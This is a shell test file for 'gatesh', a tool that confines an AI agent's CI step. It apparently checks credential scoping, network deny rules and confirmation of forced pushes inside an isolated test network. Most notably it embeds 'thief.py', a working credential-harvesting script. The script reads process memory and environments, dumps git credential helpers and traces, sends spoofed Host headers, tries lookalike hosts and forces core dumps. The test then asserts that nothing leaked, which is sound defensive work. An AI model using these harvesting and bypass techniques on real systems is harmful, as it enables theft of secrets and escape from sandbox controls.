#!/usr/bin/env bash
# SPDX-License-Identifier: BSD-2-Clause
# agent_step.t - examples/ci/agent-step.yml: its steps as they stand, in a network of their own with a Vault, a forge, a model and a
# control plane; and an agent that tries to read every credential.
# shellcheck disable=SC1091,SC2016
if [ -z "${AGENT_STEP_NET:-}" ]; then
	for p in ip python3 git curl openssl; do command -v "$p" >/dev/null || { echo "1..0 # SKIP no $p"; exit 0; }; done
	unshare -nm ip link set lo up 2>/dev/null || { echo "1..0 # SKIP no network namespace here: not root"; exit 0; }
	AGENT_STEP_NET=1 exec unshare -nm "$BASH" "$0"
fi
. "${GATE_SRC:?}/tests/support/lib.sh"
yml=$GATE_SRC/examples/ci/agent-step.yml
cd "$T" || exit 99
mount --make-rprivate /
mkdir servers work runner bin; ln -s "$GATESH" bin/gatesh; PATH=$T/bin:$PATH

# --- the network: addresses that no other machine has (RFC 5737)
printf '127.0.0.1 localhost git.example.org\n198.51.100.1 vault.example.org\n198.51.100.3 model.example.org\n198.51.100.4 git.example.org.lookalike.example\n203.0.113.1 ecs.control.example.org\n' >hosts
mount --bind hosts /etc/hosts
ip link set lo up
for a in 198.51.100.1 198.51.100.3 198.51.100.4 203.0.113.1; do ip address add $a/32 dev lo; done
openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 2 -subj /CN=test \
	-addext subjectAltName=DNS:git.example.org,DNS:vault.example.org,DNS:model.example.org,DNS:git.example.org.lookalike.example 2>/dev/null
value() { echo "real-$1-$(openssl rand -hex 12)"; }
role=$(value role) secret=$(value secret) read=$(value read) write=$(value write) model=$(value model)
printf '{"role": "%s", "secret": "%s", "read": "%s", "write": "%s", "model": "%s"}' "$role" "$secret" "$read" "$write" "$model" >values
printf 'READ=%s\nWRITE=%s\n' "$read" "$write" >tokens
chmod 600 values tokens
python3 "$GATE_SRC/tests/support/agent_step_servers.py" "$T/servers" cert.pem key.pem values >/dev/null 2>&1 </dev/null & around=$!
mkdir -p srv/repos/org; git init -q --bare srv/repos/org/app.git; git -C srv/repos/org/app.git config http.receivepack true
python3 "$GATE_SRC/tests/support/git_server.py" srv cert.pem key.pem tokens >/dev/null 2>&1 </dev/null & forge=$!
test_cleanup() { kill "$around" "$forge" 2>/dev/null; }
wait_for 20 test -e servers/ready; wait_for 20 test -s srv/port

# --- the repository, checked out
export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=$T/gitconfig SSL_CERT_FILE=$T/cert.pem
git config --global user.name Person; git config --global user.email person@example.org; git config --global init.defaultBranch main
FORGE=https://git.example.org:$(cat srv/port)
export FORGE MODEL=https://model.example.org VAULT=https://vault.example.org:8200 RUNNER_TEMP=$T/runner
git init -q work; cd work || exit 99
echo one >file; git add file; git commit -qm one; git push -q "$T/srv/repos/org/app.git" main; git remote add origin "$FORGE/org/app.git"

# step NAME: the text of its `run: |`, without the indentation.
step() { awk -v name="$1" '
	$0 ~ "^      - name: " name "$" { here = 1; next }
	/^      - / { here = 0 }
	here && /^        run: \|$/ { text = 1; next }
	here && text { if (/^          / || /^$/) print substr($0, 11); else text = 0 }' "$yml"; }
do_step() { step "$1" >"$T/step.$1"; "$BASH" -eo pipefail "$T/step.$1" </dev/null; }
tip() { git -C "$T/srv/repos/org/app.git" rev-parse --verify -q "$1"; }
export AGENT_COMMAND CONFIRM=''

# --- the steps before the agent
is "every step that is run is there" "$(for s in Install Role Principal Agent Evidence; do [ -n "$(step $s)" ] || echo $s; done)" ""
like "Gate is installed" "$(do_step Install)" "/gatesh$"
ROLE="$role $secret" do_step Role; is "the role's step" $? 0
is "nobody else reads its file" "$(stat -c %a "$T/runner/approle")" 600
ok "the principal's step" do_step Principal
like "the five keys are one file" "$(gatesh principal show reviewer)" "name +reviewer.*network-allow.*deny +.*control.*secrets-from +vault.*confirm-destructive +true"
like "Vault answers for each secret" "$(gatesh principal test reviewer | grep -c answers)" 3
: >"$T/servers/calls"

# --- what the agent is there for
cat >"$T/agent" <<'AGENT'
git fetch -q && echo fetched
curl -s "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: $ANTHROPIC_API_KEY" -d '{"prompt": "what is wrong?"}'; echo
echo two >>file; git commit -qam two; git push -q origin HEAD:topic && echo pushed
for i in 1 2 3 4 5 6; do curl -s "$ANTHROPIC_BASE_URL/v1/messages" -d '{"prompt": "again"}' >/dev/null; done
AGENT
AGENT_COMMAND="sh $T/agent"
out=$(do_step Agent 2>"$T/err")
like "the agent fetches" "$out" "fetched"
like "asks its model" "$out" "the model was asked: what is wrong"
like "and pushes a branch" "$out" "pushed"
is "which is the principal's" "$(git -C "$T/srv/repos/org/app.git" log -1 --format='%an <%ae>' topic)" "Reviewer <reviewer@example.org>"
is "fetching, the forge saw the token that reads alone" "$(grep git-upload-pack "$T/srv/log" | awk '{ print $3 }' | sort -u)" "$read"
like "pushing, the one that writes" "$(cat "$T/srv/log")" "POST /org/app.git/git-receive-pack $write 200"
like "Vault saw one login, and its token came back" "$(grep ^vault "$T/servers/calls" | cut -d' ' -f2,3 | tr '\n' ';')" "^POST /v1/auth/approle/login;.*POST /v1/auth/token/revoke-self;$"

# --- what it may not
AGENT_COMMAND='curl -sk -m 5 https://ecs.control.example.org/ || echo "name $?"; curl -sk -m 5 https://203.0.113.1/ || echo "address $?"
	curl -sk -m 5 --resolve git.example.org:443:203.0.113.1 https://git.example.org/ || echo "other name $?"
	python3 -c "import socket; socket.create_connection((\"203.0.113.1\", 443), 3)" 2>/dev/null || echo "python $?"'
out=$(do_step Agent 2>"$T/err")
like "the control plane is not reached by name" "$out" "name 7"
like "nor by address" "$out" "address 7"
like "nor under an allowed name" "$out" "other name 7"
like "nor by another program" "$out" "python 1"
is "it has seen nobody" "$(grep -c ^control "$T/servers/calls")" 0
like "and the log names the rule" "$(gatesh log --json)" 'principal\.deny'

# --- what destroys waits for its name
git fetch -q "$T/srv/repos/org/app.git" topic 2>/dev/null; old=$(tip topic)
AGENT_COMMAND='git push -q --force origin main~0:topic'
git checkout -q -B main "$(tip main)"; git commit -q --allow-empty -m other
out=$(do_step Agent 2>&1); status=$?
ok "a forced push that nobody has named fails: $status" test $status -ne 0
is "and changes nothing" "$(tip topic)" "$old"
CONFIRM='sql.drop git.force-push' out=$(do_step Agent 2>&1)
is "nor is half of the names enough: the command's, without the request's" "$(tip topic)" "$old"
CONFIRM='git.force-push http.git-force-push'
out=$(do_step Agent 2>&1); is "with both it goes" $? 0
is "really" "$(tip topic)" "$(git rev-parse main)"
CONFIRM=''

# --- an agent that tries to read every value: what it finds goes to a directory
mkdir "$T/loot"; : >"$T/servers/calls"; : >"$T/srv/log"
cat >"$T/thief.py" <<'THIEF'
import os, re, signal, socket, ssl, subprocess, sys, urllib.parse
loot, approle = sys.argv[1:]
real = re.compile(b'rea' + b'l-[a-z]+-[0-9a-f]{24}')
def found(where, text):
    with open(os.path.join(loot, 'found'), 'a') as f:
        f.writelines('%s %s\n' % (where, hit.decode()) for hit in set(real.findall(text)))
# environment, command line and memory of every process
for process in filter(str.isdigit, os.listdir('/proc')):
    for name in 'environ', 'cmdline':
        try: found('%s of %s' % (name, process), open('/proc/%s/%s' % (process, name), 'rb').read())
        except OSError: pass
    try:
        areas = [re.match(r'(\w+)-(\w+) rw', line) for line in open('/proc/%s/maps' % process)]
        with open('/proc/%s/mem' % process, 'rb', 0) as memory:
            for area in filter(None, areas):
                memory.seek(int(area[1], 16))
                found('memory of ' + process, memory.read(min(int(area[2], 16) - int(area[1], 16), 1 << 26)))
    except (OSError, OverflowError, ValueError): pass
# the files
for path in approle, '/proc/1/root' + approle, '/proc/%d/root%s' % (os.getppid(), approle):
    try: found(path, open(path, 'rb').read())
    except OSError: pass
    raw = subprocess.run(['python3', '-c', 'import ctypes, os, sys; fd = ctypes.CDLL(None).syscall({"x86_64": 257}.get(os.uname().machine, 56), -100, sys.argv[1].encode(), 0); os.write(1, os.read(fd, 999))', path], capture_output=True)
    found('raw ' + path, raw.stdout)
# helpers by hand, and what git says about itself
forge = subprocess.run(['git', 'remote', 'get-url', 'origin'], capture_output=True, text=True).stdout.strip()
host = urllib.parse.urlsplit(forge).netloc
def run(name, *command, **more):
    e = dict(os.environ, GIT_TERMINAL_PROMPT='0', **more.get('env', {}))
    try: p = subprocess.run(command, input=more.get('input', b''), capture_output=True, env=e, timeout=120)
    except OSError: return
    with open(os.path.join(loot, name), 'ab') as f: f.write(p.stdout + p.stderr)
for protocol in 'http', 'https':
    run('helper', 'git', 'credential', 'fill', input=('protocol=%s\nhost=%s\n\n' % (protocol, host)).encode())
run('trace', 'git', 'ls-remote', 'origin', env={'GIT_TRACE_CURL': '1', 'GIT_CURL_VERBOSE': '1', 'GIT_TRACE_REDACT': '0'})
run('strace', 'strace', '-f', '-s', '99999', '-e', 'trace=network,read,write', 'git', 'ls-remote', 'origin')
run('config', 'git', 'config', '--list')
# redirections, a lookalike, a Host that is not the server's
base = forge[:-len('org/app.git')]
run('redirect', 'git', '-c', 'http.sslVerify=false', 'ls-remote', base + 'redirect/org/app.git')
run('lookalike', 'git', '-c', 'http.sslVerify=false', 'ls-remote', 'https://git.example.org.lookalike.example/org/app.git')
model = urllib.parse.urlsplit(os.environ['ANTHROPIC_BASE_URL'])
proxy = subprocess.run(['git', 'config', '--get-urlmatch', 'http.proxy', forge.replace('https', 'http')], capture_output=True, text=True).stdout.strip()
def send(name, text):
    s = socket.create_connection((model.hostname, model.port)); s.sendall(text.encode()); data = b''
    while part := s.recv(65536): data += part
    with open(os.path.join(loot, name), 'ab') as f: f.write(data)
send('host', 'GET %s/ HTTP/1.1\r\nHost: ecs.control.example.org\r\n\r\n' % model.path)
send('host', 'GET %s/ HTTP/1.1\r\nHost: git.example.org.lookalike.example\r\nX-Forwarded-Host: ecs.control.example.org\r\n\r\n' % model.path)
send('absolute', 'GET http://git.example.org.lookalike.example/ HTTP/1.1\r\nHost: git.example.org\r\n\r\n')
send('trace', 'TRACE %s/ HTTP/1.1\r\n\r\n' % model.path)
run('proxied', 'curl', '-s', '-x', proxy, 'http://git.example.org.lookalike.example/org/app.git/info/refs?service=git-upload-pack')
# a core dump
process = os.getppid()
while process > 1:
    try: os.kill(process, signal.SIGSEGV) if b'gatesh' in open('/proc/%d/cmdline' % process, 'rb').read().split(b'\0')[0] else None
    except OSError as e: print('core', e.errno, file=open(os.path.join(loot, 'signal'), 'a'))
    process = int(open('/proc/%d/stat' % process).read().rsplit(')', 1)[1].split()[1])
for p in filter(str.isdigit, os.listdir('/proc')):
    try:
        if b'gatesh' in open('/proc/%s/cmdline' % p, 'rb').read(): run('gcore', 'gcore', '-o', os.path.join(loot, 'core'), p)
    except OSError: pass
print('tried everything')
THIEF
AGENT_COMMAND="ulimit -c unlimited; git ls-remote -q origin >/dev/null; curl -s \$ANTHROPIC_BASE_URL/x -d '{\"prompt\": \"x\"}' >/dev/null; python3 $T/thief.py $T/loot $T/runner/approle"
out=$(do_step Agent 2>"$T/err")
like "the agent has tried everything, and the session lives" "$out" "tried everything"
is "no value in any environment, command line, memory or file" "$(cat "$T/loot/found" 2>/dev/null)" ""
for v in "$role" "$secret" "$read" "$write" "$model"; do echo "$v"; printf 'x-access-token:%s' "$v" | base64 -w0; echo; done >"$T/look-for"
is "nor in what helpers, traces, strace, redirections and servers said" "$(grep -rlF -f "$T/look-for" "$T/loot" "$T/work")" ""
for f in helper trace config host absolute lookalike redirect proxied; do ok "which is something: $f" test -s "$T/loot/$f"; done
is "the Host that was sent is not the one that arrived" "$(awk '$1 == "model" { print $5, $6 }' "$T/servers/calls" | sort -u)" "model.example.org model.example.org"
is "the lookalike got nothing" "$(grep -c "^lookalike.*real-" "$T/servers/calls")" 0
is "nor did the control plane" "$(grep -c ^control "$T/servers/calls")" 0
unlike "nor the other host of the redirection" "$(grep -A1 redirect "$T/srv/log")" "GET /org/app.git[^ ]* real-"
like "TRACE is refused" "$(cat "$T/loot/trace")" "403 Forbidden"
is "there is no core" "$(find "$T/loot" "$T/work" -name 'core*')" ""

# --- afterwards
ok "the evidence" do_step Evidence
like "has each use, by name, scope and operation" "$(cat audit.jsonl)" '"principal": ?\{"agent": ?"reviewer"\}, ?"secret": ?"forge".*"scope": ?"write", ?"operation": ?"git-force-push refs/heads/topic'
is "and no value" "$(grep -cE 'real-[a-z]+-[0-9a-f]{24}' audit.jsonl destinations.txt | tr '\n' ' ')" "audit.jsonl:0 destinations.txt:0 "
done_testing
